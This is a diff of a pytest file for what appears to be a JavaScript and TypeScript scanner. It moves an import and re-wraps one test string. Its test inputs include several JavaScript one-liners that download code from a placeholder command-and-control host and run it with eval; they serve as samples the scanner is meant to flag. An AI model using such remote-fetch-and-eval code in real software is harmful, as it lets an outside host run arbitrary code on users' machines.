@@ -1,11 +1,11 @@
 """JavaScript and TypeScript: names through modules and aliases, what flows where, when it runs, and what is handed on."""
 
 import pytest
-from javascript_seen import all_of, labels, only, seen
 
 from pratique.errors import InvalidInput
 from pratique.facts.scan.languages.javascript import LANGUAGE
 from pratique.facts.scan.observation import Context, How
+from tests.facts.languages.javascript_seen import all_of, labels, only, seen
 
 
 @pytest.mark.parametrize(
@@ -96,8 +96,10 @@ def test_types_of_flow_in_a_plain_file_are_read() -> None:
             "let t = ''; require('https').get('https://c2.example.invalid', (r) => { r.on('data', (d) => (t += d)); "
             "r.on('end', () => eval(t)) })"
         ),
-        "const p = []; require('https').get('https://c2.example.invalid', (r) => { r.on('data', (d) => p.push(d)); "
-        "r.on('end', () => eval(p.join(''))) })",
+        (
+            "const p = []; require('https').get('https://c2.example.invalid', (r) => { r.on('data', (d) => p.push(d)); "
+            "r.on('end', () => eval(p.join(''))) })"
+        ),
         "async function g() { return (await fetch('https://c2.example.invalid')).text() } g().then((t) => eval(t))",
         (
             "const g = (u, cb) => require('https').get(u, (r) => r.on('data', (d) => cb(d))); "
